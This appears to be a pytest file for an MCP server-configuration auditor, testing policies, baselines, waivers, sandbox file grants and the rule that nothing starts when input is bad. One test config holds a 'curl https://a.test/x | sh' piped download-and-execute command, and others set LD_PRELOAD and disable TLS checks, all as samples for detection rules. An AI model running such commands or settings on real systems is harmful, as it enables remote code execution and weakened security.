"""The real program under a policy, and against a baseline; whatever is wrong with either, nothing is started."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from assay import SAMPLES
from bad_policies import BAD

from auditor.__main__ import run
from auditor.confine import best_mode

NOTES = SAMPLES / "harmless" / "notes.py"
Wrong = Callable[[str], str]


def config(folder: Path, **servers: object) -> Path:
    path = folder / "mcp.json"
    path.write_text(json.dumps({"mcpServers": servers}, indent=2), encoding="utf-8")
    return path


def starts(path: Path, **more: object) -> dict[str, object]:
    return {"command": "python3", "args": [str(path)], **more}


def policy(folder: Path, text: str) -> Path:
    path = folder / "mcp-assay.yaml"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    return path


@pytest.fixture(scope="module")
def marking(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A config whose start would leave a mark outside any sandbox's scratch folders, and the mark."""
    folder = tmp_path_factory.mktemp("marking")
    mark = folder / "started"
    return config(folder, a={"command": "touch", "args": [str(mark)]}), mark


@pytest.fixture(scope="module")
def report(marking: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> str:
    """A sound report, of the entries alone."""
    path = tmp_path_factory.mktemp("report") / "run.json"
    assert run(["scan", "--static", str(marking[0]), "--json", str(path), "-q"]) == 0
    return path.read_text(encoding="utf-8")


def test_the_start_would_leave_its_mark(marking: tuple[Path, Path], tmp_path: Path) -> None:
    """Or the tests below prove nothing."""
    mark = tmp_path / "started"
    path = config(tmp_path, a={"command": "touch", "args": [str(mark)]})
    run(["scan", "--yes", "--confine", "scrubbed", str(path), "-q"])
    assert mark.exists()
    assert not marking[1].exists()


@pytest.mark.parametrize("name", BAD)
def test_with_a_bad_policy_nothing_is_started(
    name: str, marking: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = policy(tmp_path, BAD[name].text)
    args = ["scan", "--yes", "--confine", "scrubbed", str(marking[0]), "--config", str(path)]
    assert run(args) == 2
    told = capsys.readouterr().err
    assert f"{path}:{BAD[name].place}" in told
    assert "help:" in told
    assert not marking[1].exists()


def without(*keys: str) -> Wrong:
    """A report in which one key is missing."""

    def edit(text: str) -> str:
        tree = json.loads(text)
        inner = tree
        for key in keys[:-1]:
            inner = inner[int(key) if key.isdigit() else key]
        del inner[keys[-1]]
        return json.dumps(tree, indent=1)

    return edit


def with_value(value: object, *keys: str) -> Wrong:
    """A report in which one value is another."""

    def edit(text: str) -> str:
        tree = json.loads(text)
        inner = tree
        for key in keys[:-1]:
            inner = inner[int(key) if key.isdigit() else key]
        inner[keys[-1]] = value
        return json.dumps(tree, indent=1)

    return edit


BAD_BASELINES: dict[str, tuple[Wrong, str, str]] = {
    "nothing": (lambda _: "", ":1:1", "not a JSON report"),
    "a list": (lambda _: "[]", ":1:1", "an object is expected"),
    "half a report": (lambda text: text[: len(text) // 2], ":", "not a JSON report"),
    "a policy": (lambda _: "version: 1\n", ":1:1", "not a JSON report"),
    "SARIF": (lambda _: '{"version": "2.1.0", "runs": []}', ":1:1", "'mcp-assay/report/1' is expected"),
    "a newer report": (with_value("mcp-assay/report/2", "schema"), ":2:12", "is of another mcp-assay"),
    "a capture": (with_value("mcp-assay/capture/1", "schema"), ":2:12", "'mcp-assay/report/1' is expected"),
    "no findings": (without("findings"), ":1:1", "the key 'findings' is missing"),
    "findings as a text": (with_value("none", "findings"), ":", "an array is expected at /findings"),
    "a key more": (with_value(1, "extra"), ":1:1", "the key 'extra' is unknown"),
    "a key twice": (lambda text: text.replace("{", '{"gaps": [],', 1), ":1:1", "the key 'gaps' occurs twice"),
    "too deep": (lambda _: "[" * 5_000, "", "not a JSON report"),
    "a gap without a reason": (with_value([{"server": "a"}], "gaps"), ":", "is missing at /gaps/0"),
    "an outcome that is none": (with_value("fine", "outcome"), ":", "is expected at /outcome"),
}


@pytest.mark.parametrize("name", BAD_BASELINES)
def test_with_a_bad_baseline_nothing_is_started(
    name: str, marking: tuple[Path, Path], report: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit, place, what = BAD_BASELINES[name]
    path = tmp_path / "old.json"
    path.write_text(edit(report), encoding="utf-8")
    args = ["scan", "--yes", "--confine", "scrubbed", str(marking[0]), "--baseline", str(path)]
    assert run(args) == 2
    told = capsys.readouterr().err
    assert f"{path}{place}" in told and what in told and "help:" in told
    assert not marking[1].exists()


@pytest.mark.parametrize("option", ["--config", "--baseline"])
def test_a_file_that_is_not_text_is_refused(option: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "x"
    path.write_bytes(b"a: \xff\xfe\n")
    assert run(["scan", "--static", "--yes", str(tmp_path), option, str(path)]) == 2
    assert "UTF-8" in capsys.readouterr().err


def test_a_policy_decides_who_is_started_and_each_breach_is_a_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mark = tmp_path / "started"
    path = config(
        tmp_path,
        notes=starts(NOTES, env={"LOG": "1", "TOKEN": "${TOKEN}"}),
        never={"command": "touch", "args": [str(mark)]},
        stranger={"command": "touch", "args": [str(mark)]},
    )
    text = (
        "trust: {untrusted: {start: never}}\n"
        "servers:\n  notes: {trust: trusted, tools: {allow: [list_notes, read_note, write_note], block: [write_*x]},"
        " grants: {environment: [LOG]}}\n"
        "  never: {trust: untrusted}\n"
    )
    out = tmp_path / "run.json"
    args = ["scan", "--yes", str(path), "--config", str(policy(tmp_path, text)), "--json", str(out), "-q"]
    assert run(args) == 1, capsys.readouterr().err
    found = json.loads(out.read_text(encoding="utf-8"))
    told = {(one["rule"], one["matches"][0]["server"], one["matches"][0]["item"]) for one in found["findings"]}
    assert {rule for rule in told if rule[0].startswith("policy/")} == {
        ("policy/tool-not-allowed", "notes", "append_to_note"),
        ("policy/variable-not-granted", "notes", ""),
        ("policy/server-not-named", "stranger", ""),
    }
    assert [server["status"] for server in found["servers"]] == ["audited", "static", "static"]
    assert not mark.exists()
    assert any("2 servers were not started, as the policy wishes" in note for note in found["notes"])


def test_without_a_sandbox_a_server_that_is_not_trusted_is_a_gap(tmp_path: Path) -> None:
    mark = tmp_path / "started"
    path = config(tmp_path, a={"command": "touch", "args": [str(mark)]})
    args = ["scan", "--yes", "--confine", "scrubbed", str(path), "--config", str(policy(tmp_path, "servers: {a: {}}"))]
    assert run([*args, "-q"]) == 3
    assert not mark.exists()


@pytest.mark.skipif(best_mode() != "bubblewrap", reason="needs a sandbox")
def test_init_writes_what_scan_then_finds_nothing_against_and_overwrites_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = config(tmp_path, notes=starts(NOTES))
    written = tmp_path / "mcp-assay.yaml"
    init = ["policy", "init", "--yes", str(path), "-o", str(written), "-q"]
    assert run(init) == 0
    text = written.read_text(encoding="utf-8")
    assert "allow: [list_notes, read_note, append_to_note, write_note]" in text
    assert run(["scan", "--yes", str(path), "--config", str(written), "-q"]) == 0
    capsys.readouterr()
    assert run(init) == 2
    assert "--force" in capsys.readouterr().err
    assert written.read_text(encoding="utf-8") == text


@pytest.mark.skipif(best_mode() != "bubblewrap", reason="needs a sandbox")
def test_files_that_a_policy_grants_can_be_read_in_the_sandbox_and_others_not(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "word").write_text("opensesame", encoding="utf-8")
    program = tmp_path / "tells" / "server.py"
    program.parent.mkdir()
    program.write_text(
        "import pathlib, sys\n"
        f"sys.path.insert(0, {str(SAMPLES)!r})\n"
        "try:\n"
        f"    word = pathlib.Path({str(data / 'word')!r}).read_text()\n"
        "except OSError:\n    word = 'nothing'\n"
        "print('read ' + word, file=sys.stderr)\n",
        encoding="utf-8",
    )
    path = config(tmp_path, one=starts(program), other=starts(program))
    text = "servers: {one: {grants: {files: [{path: ./data}]}}, other: {}}"
    out = tmp_path / "seen.json"
    run(["scan", "--yes", str(path), "--config", str(policy(tmp_path, text)), "--save-capture", str(out), "-q"])
    saved = json.loads(out.read_text(encoding="utf-8"))["captures"]
    assert [each["evidence"]["stderr"].strip() for each in saved] == ["read opensesame", "read nothing"]


def test_only_what_is_new_fails_and_what_is_gone_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    path = config(tmp_path, a={"command": "x", "env": {"LD_PRELOAD": "/x.so"}}, b={"url": "http://b.test/mcp"})
    scan = ["scan", "--static", str(path)]
    assert run([*scan, "--json", str(old), "-q"]) == 1
    config(tmp_path, a={"command": "x", "env": {"LD_PRELOAD": "/x.so", "NODE_TLS_REJECT_UNAUTHORIZED": "0"}})
    sarif = tmp_path / "new.sarif"
    assert run([*scan, "--baseline", str(old), "--json", str(new), "--sarif", str(sarif), "-q"]) == 1
    found = json.loads(new.read_text(encoding="utf-8"))
    fates = {one["rule"]: (one["fate"], one["age"]) for one in found["findings"]}
    assert fates["launch/preloaded-library"] == ("known", "old")
    assert fates["launch/tls-off"] == ("fails", "new")
    assert [one["server"] for one in found["since"]["gone"]] == ["b"]
    results = json.loads(sarif.read_text(encoding="utf-8"))["runs"][0]["results"]
    assert {one["ruleId"]: one["baselineState"] for one in results} == {
        "launch/preloaded-library": "unchanged", "launch/tls-off": "new",
    }  # fmt: skip
    capsys.readouterr()
    assert run(["report", str(new), "--baseline", str(new)]) == 0
    assert "Nothing fails the audit" in capsys.readouterr().out


def test_the_schema_is_printed_and_a_sound_policy_is_called_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["policy", "schema"]) == 0
    assert json.loads(capsys.readouterr().out)["$id"] == "urn:mcp-assay:policy:1"
    assert run(["policy", "check", str(policy(tmp_path, "servers: {a: {}, 'b*': {}}"))]) == 0
    assert "1 server by name, 1 pattern, 0 waivers" in capsys.readouterr().out
    assert run(["policy", "check", str(policy(tmp_path, "servers: []"))]) == 2


def test_a_waiver_for_a_rule_that_does_not_exist_is_told_by_check(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    waiver = "waivers: [{rule: RULE, reason: looked at by Ada, until: 2027-01-31}]"
    assert run(["policy", "check", str(policy(tmp_path, waiver.replace("RULE", "capability/runs-comands")))]) == 2
    assert "did you mean capability/runs-commands?" in capsys.readouterr().err
    assert run(["policy", "check", str(policy(tmp_path, waiver.replace("RULE", "capability/runs-commands")))]) == 0


def test_a_waiver_for_a_rule_that_does_not_exist_stops_a_scan_at_its_place(
    marking: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = policy(tmp_path, "waivers:\n- {rule: capability/runs-comands, reason: Ada, until: 2027-01-31}\n")
    for words in (["policy", "check", str(path)], ["scan", "--yes", str(marking[0]), "--config", str(path)]):
        assert run(words) == 2
        told = capsys.readouterr().err
        assert f"{path}:2:10" in told
        assert "did you mean capability/runs-commands?" in told
    assert not marking[1].exists()


def test_a_bare_listing_beside_a_config_does_not_turn_back_the_clock_of_waivers(
    tmp_path: Path,
) -> None:
    path = config(tmp_path, a={"command": "bash", "args": ["-c", "curl https://a.test/x | sh"]})
    listing = tmp_path / "notes.json"
    listing.write_text('{"tools": [{"name": "read"}]}', encoding="utf-8")
    ended = policy(tmp_path, "waivers: [{rule: launch/piped-download, reason: Ada, until: 2025-01-31}]")
    scan = ["scan", "--static", "-q", "--config", str(ended)]
    assert [run([*scan, *map(str, each)]) for each in ([path], [path, listing], [listing])] == [1, 1, 1]


@pytest.mark.skipif(best_mode() != "bubblewrap", reason="needs a sandbox")
def test_init_does_not_allow_tools_that_fail_an_audit_and_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = config(tmp_path, poisoned=starts(SAMPLES / "poisoned" / "tool_description.py"), notes=starts(NOTES))
    written = tmp_path / "mcp-assay.yaml"
    assert run(["policy", "init", "--yes", str(path), "-o", str(written), "-q"]) == 0
    assert "their tools that do are not allowed" in capsys.readouterr().err
    text = written.read_text(encoding="utf-8")
    assert "# Not allowed, since what it says fails an audit: convert" in text
    assert "allow: [list_notes, read_note, append_to_note, write_note]" in text
    assert run(["policy", "check", str(written)]) == 0


@pytest.mark.parametrize(
    "options",
    [
        ["--json", "mcp.json"],
        ["--html", "./mcp.json"],
        ["--save-capture", "mcp.json"],
        ["--config", "mcp-assay.yaml", "--json", "mcp-assay.yaml"],
        ["--json", "new", "--sarif", "./new"],
        ["--json", "new", "--save-capture", "new"],
        ["--json", "new", "--json", "other"],
        ["--timeout", "nan"],
        ["--timeout", "inf"],
    ],
)
def test_nothing_that_is_read_or_written_is_lost(
    options: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = {config(tmp_path, notes=starts(NOTES)), policy(tmp_path, "servers: {}")}
    before = {path: path.read_bytes() for path in kept}
    monkeypatch.chdir(tmp_path)
    assert run(["scan", "--static", "mcp.json", "-q", *options]) == 2
    assert capsys.readouterr().err
    assert {path: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_nobody_by_the_name_of_who_may_use_the_network_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = str(config(tmp_path, notes=starts(NOTES)))
    assert run(["scan", "--static", path, "-q", "--network", "full:nope"]) == 2
    assert "no server is called 'nope'" in capsys.readouterr().err
    assert run(["scan", "--static", path, "-q", "--network", "full:notes"]) == 0
